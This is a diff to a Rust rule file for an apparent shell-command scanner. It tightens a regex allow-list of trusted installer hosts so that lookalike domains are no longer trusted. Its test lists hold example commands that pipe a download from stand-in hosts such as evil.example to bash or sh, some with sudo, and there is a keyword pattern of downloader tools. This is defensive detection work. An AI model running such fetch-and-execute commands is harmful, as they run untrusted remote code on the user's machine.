@@ -21,7 +21,7 @@ pub struct TextRule {
 }
 
 /// Installers the world pipes to a shell every day: caution, not danger.
-pub const KNOWN_INSTALLERS: &str = r"(?i)(sh\.rustup\.rs|astral\.sh|brew\.sh|raw\.githubusercontent\.com/Homebrew/install|deno\.land/install|deno\.land/x/install|bun\.sh/install|get\.docker\.com|install\.python-poetry\.org|raw\.githubusercontent\.com/nvm-sh/nvm|get\.pnpm\.io|fnm\.vercel\.app|tailscale\.com/install\.sh|sh\.vector\.dev|ollama\.com/install\.sh|starship\.rs/install\.sh)";
+pub const KNOWN_INSTALLERS: &str = r#"(?i)https?://(?:(?:sh\.rustup\.rs|astral\.sh|brew\.sh|bun\.sh|get\.docker\.com|install\.python-poetry\.org|get\.pnpm\.io|fnm\.vercel\.app|sh\.vector\.dev|tailscale\.com|ollama\.com|starship\.rs|deno\.land)(?:[/:\s'"?#]|$)|raw\.githubusercontent\.com/(?:Homebrew/install|nvm-sh/nvm)/)"#;
 
 const DOWNLOADER: &str = r"(?i)\b(curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|fetch\(|urllib|requests\.get|aria2c)\b";
 const SENDS: &str =
@@ -39,19 +39,19 @@ pub const RULES: &[TextRule] = &[
         unless: Some(KNOWN_INSTALLERS),
         escalate: None,
         soften: None,
-        yes: &["curl -fsSL https://evil.example/i.sh | bash", "wget -qO- http://x.example/a | sh", "curl x.example/s | sudo bash -s -- --yes"],
+        yes: &["curl -fsSL https://evil.example/i.sh | bash", "curl -s https://evil.example/astral.sh | sh", "wget -qO- http://x.example/a | sh", "curl x.example/s | sudo bash -s -- --yes"],
         no: &["curl -fsSL https://sh.rustup.rs | sh", "curl https://api.example/data | jq .", "wget https://example.com/file.tar.gz", "curl x | shasum -a 256"],
     },
     TextRule {
         id: "download.known-installer",
         severity: Caution,
         says: "Pipes a well-known installer to a shell. Usually fine, but it runs code from the web.",
-        pattern: r"(?i)\b(curl|wget)\b[^\n|]*\|\s*(sudo\s+)?(ba|z|da|k|fi)?sh\b",
+        pattern: r#"(?i)\b(curl|wget)\b[^\n|]*https?://(?:(?:sh\.rustup\.rs|astral\.sh|brew\.sh|bun\.sh|get\.docker\.com|install\.python-poetry\.org|get\.pnpm\.io|fnm\.vercel\.app|sh\.vector\.dev|tailscale\.com|ollama\.com|starship\.rs|deno\.land)(?:[/:\s'"?#]|$)|raw\.githubusercontent\.com/(?:Homebrew/install|nvm-sh/nvm)/)[^\n|]*\|\s*(sudo\s+)?(ba|z|da|k|fi)?sh\b"#,
         unless: None,
         escalate: None,
         soften: None,
         yes: &["curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", "curl -LsSf https://astral.sh/uv/install.sh | sh"],
-        no: &["curl https://sh.rustup.rs -o rustup.sh"],
+        no: &["curl https://sh.rustup.rs -o rustup.sh", "curl -s http://x.example/i | bash", "curl -s https://evil.example/astral.sh | sh", "curl -s https://sh.rustup.rs.evil.example/x | sh"],
     },
     TextRule {
         id: "download.powershell",
